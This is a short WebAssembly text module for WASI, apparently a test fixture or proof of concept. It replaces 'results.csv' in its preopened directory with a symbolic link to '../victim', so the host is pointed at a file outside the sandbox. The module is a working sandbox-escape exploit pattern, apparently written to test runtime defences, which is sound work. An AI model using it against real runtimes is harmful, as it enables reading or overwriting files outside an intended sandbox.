;; A WASI preview1 command granted a directory (fd 3) read-write: it replaces `results.csv`
;; there by a relative symbolic link to `../victim`, then prints its result.
(module
  (import "wasi_snapshot_preview1" "path_unlink_file"
    (func $unlink (param i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "path_symlink"
    (func $symlink (param i32 i32 i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_write"
    (func $fd_write (param i32 i32 i32 i32) (result i32)))
  (memory (export "memory") 1)
  (data (i32.const 0) "results.csv")
  (data (i32.const 16) "../victim")
  (data (i32.const 32) "1\n")
  (func (export "_start")
    (drop (call $unlink (i32.const 3) (i32.const 0) (i32.const 11)))
    (drop (call $symlink (i32.const 16) (i32.const 9) (i32.const 3) (i32.const 0) (i32.const 11)))
    (i32.store (i32.const 64) (i32.const 32))
    (i32.store (i32.const 68) (i32.const 2))
    (drop (call $fd_write (i32.const 1) (i32.const 64) (i32.const 1) (i32.const 72)))))
